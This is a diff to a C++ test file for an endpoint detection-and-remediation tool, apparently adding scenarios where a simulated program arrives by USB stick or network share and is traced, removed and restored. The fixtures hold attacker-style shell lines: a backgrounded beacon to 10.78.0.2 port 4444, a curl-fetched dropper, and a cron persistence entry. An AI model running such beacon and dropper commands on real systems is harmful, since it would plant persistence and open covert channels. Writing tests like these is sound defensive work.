@@ -1,11 +1,12 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-// What came in by S1 and S8, and starts by itself since: found, taken away, and brought back to the byte.
+// What came in by S1, S2, S3 and S8, and may start by itself since: found, taken away, and brought back to the byte.
 #include "tests/actuator/file_stage.h"
 #include "tests/remediation_scenarios/clean_up.h"
+#include "tests/trace_scenarios/medium.h"
+#include "tests/trace_scenarios/mount_label.h"
 #include "tests/trace_scenarios/scenes.h"
 
 #include <fstream>
-#include <sys/mount.h>
 #include <sys/stat.h>
 
 using namespace metsuke;
@@ -15,8 +16,11 @@ using plan::Action;
 
 namespace {
 
-INSTANTIATE_TEST_SUITE_P(Ways, CleanUp, ::testing::Values("ebpf"), [](const auto& way) { return std::string(way.param); });
+std::string nameOfWay(const ::testing::TestParamInfo<const char*>& way) { return way.param; }
+INSTANTIATE_TEST_SUITE_P(Ways, CleanUp, ::testing::Values("ebpf"), nameOfWay);
+INSTANTIATE_TEST_SUITE_P(Ways, EitherWayCleanUp, ::testing::Values("ebpf", "proc"), nameOfWay);
 
+const std::set<Action> kUsual{Action::CollectEvidence, Action::SuspendProcess, Action::KillConnections, Action::QuarantineFile, Action::KillProcess};
 const std::set<Action> kWithEntries{
     Action::CollectEvidence, Action::SuspendProcess, Action::KillConnections, Action::RemovePersistence, Action::QuarantineFile, Action::KillProcess};
 
@@ -36,24 +40,28 @@ setsid home/.update tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &
 exit 0
 )sh";
 
-/// A file system in memory over a folder of this host, which only this program and what it starts sees.
-class PrivateFolder {
-public:
-    enum class Content : uint8_t { None, Copy };
-    PrivateFolder(std::string folder, Content content, const std::string& workshop)
-        : m_folder(std::move(folder)) {
-        std::filesystem::create_directories(workshop);
-        EXPECT_EQ(::mount("metsuke", workshop.c_str(), "tmpfs", 0, "size=64m,mode=755"), 0);
-        EXPECT_TRUE(content == Content::None || quietly({"cp", "-a", m_folder + "/.", workshop}) == 0);
-        EXPECT_EQ(::mount(workshop.c_str(), m_folder.c_str(), nullptr, MS_MOVE, nullptr), 0);
+/// A program comes from somebody else's files, and is run from the computer's own.
+class MediumCleanUp : public CleanUp {
+protected:
+    void expectCopyIsTakenAway(const std::string& medium, EntryVector entry) {
+        happen("cp \"$METSUKE_SIM_ROOT/" + medium + "/tool\" home/tool\nsetsid home/tool tcp 10.78.0.2 4444 500" + kRun);
+        dressUp(path("home/tool"));
+        const Question seen = beacon();
+        const endpoint::Trace cause = causeOf(seen, [&](const endpoint::Trace& trace) { return trace.entry == entry; });
+        EXPECT_EQ(cause.entry, entry);
+        EXPECT_EQ(cause.nodes[*cause.root].label, path(medium + "/tool"));
+        const plan::Plan plan = cleanAndUndo(seen, kUsual);
+        for (const plan::Step& step : plan.steps) {
+            const auto* file = std::get_if<plan::FileTarget>(&step.target);
+            const auto* process = std::get_if<plan::ProcessTarget>(&step.target);
+            EXPECT_TRUE(file == nullptr || file->path == path("home/tool")) << file->path << ": what lies on the medium is left there";
+            EXPECT_TRUE(process == nullptr || process->image == path("home/tool")) << process->image;
+        }
+        EXPECT_TRUE(readFile(path(medium + "/tool")) == simulant());
+        actuator::test::undress(path("home/tool"));
     }
-    ~PrivateFolder() { EXPECT_EQ(::umount2(m_folder.c_str(), MNT_DETACH), 0); }
-    PrivateFolder(const PrivateFolder&) = delete;
-    PrivateFolder& operator=(const PrivateFolder&) = delete;
-
-private:
-    std::string m_folder;
 };
+INSTANTIATE_TEST_SUITE_P(Ways, MediumCleanUp, ::testing::Values("ebpf"), nameOfWay);
 
 std::set<std::string> entriesOf(const plan::Plan& plan) {
     std::set<std::string> paths;
@@ -67,20 +75,40 @@ std::set<std::string> entriesOf(const plan::Plan& plan) {
 
 } // namespace
 
-TEST_P(CleanUp, S1_programFetchedByCurlWithACronLine_isTakenAwaySilentAndBroughtBack) {
-    far->serveFiles(kWebPort, {{"/logo.png", {simulant(), "image/png"}}});
+TEST_P(EitherWayCleanUp, S1_programFetchedByCurlWithACronLine_isTakenAwaySilentAndBroughtBack) {
+    far->serveFiles(kWebPort, {{"/logo.png", {simulant(), "image/png"}}}, onceSeen());
     far->takeStreams(kBeaconPort);
     place("dropper.sh", kFetchingScript);
     begin();
     happen("./dropper.sh");
     dressUp(path("home/.update"));
     const Question seen = beacon();
-    const endpoint::Trace cause = causeOf(seen, [](const auto& trace) { return trace.entry == EntryVector::Download; });
-    EXPECT_EQ(cause.entry, EntryVector::Download);
-    EXPECT_NE(cause.nodes[*cause.root].label.find("10.78.0.2:8080"), std::string::npos);
+    const auto isDownload = [](const endpoint::Trace& trace) { return trace.entry == EntryVector::Download; };
+    // Who is only looked at may be gone too soon; then that is said.
+    const endpoint::Trace cause = causeOf(seen, [&](const auto& trace) { return isDownload(trace) || (!isEbpf() && !trace.gaps.empty()); });
+    EXPECT_TRUE(isDownload(cause) || (!isEbpf() && !cause.gaps.empty()));
+    EXPECT_TRUE(!isDownload(cause) || cause.nodes[*cause.root].label.find("10.78.0.2:8080") != std::string::npos);
     const plan::Plan plan = cleanAndUndo(seen, kWithEntries);
     EXPECT_EQ(entriesOf(plan), std::set<std::string>{"/etc/cron.d/upd"});
     actuator::test::undress(path("home/.update"));
+}
+
+TEST_P(MediumCleanUp, S2_programOfAStick_isTakenAwaySilentAndBroughtBack) {
+    far->takeStreams(kBeaconPort);
+    const Medium stick(path("media"), simulant());
+    begin();
+    const MountLabel label(sensorProcess(), path("media"), "vfat", "/dev/sdb1", MountLabel::Medium::Removable, victim->root());
+    ASSERT_TRUE(eventually([&] { return isMounted("media", endpoint::MountKind::Removable); }));
+    expectCopyIsTakenAway("media", EntryVector::Removable);
+}
+
+TEST_P(MediumCleanUp, S3_programOfAShare_isTakenAwaySilentAndBroughtBack) {
+    far->takeStreams(kBeaconPort);
+    const Medium share(path("share"), simulant());
+    begin();
+    const MountLabel label(sensorProcess(), path("share"), "cifs", "//server/share", MountLabel::Medium::Fixed, victim->root());
+    ASSERT_TRUE(eventually([&] { return isMounted("share", endpoint::MountKind::Remote); }));
+    expectCopyIsTakenAway("share", EntryVector::RemoteShare);
 }
 
 TEST_P(CleanUp, S8_fiveEntriesThatStartIt_areAllFoundRemovedAndBroughtBack) {
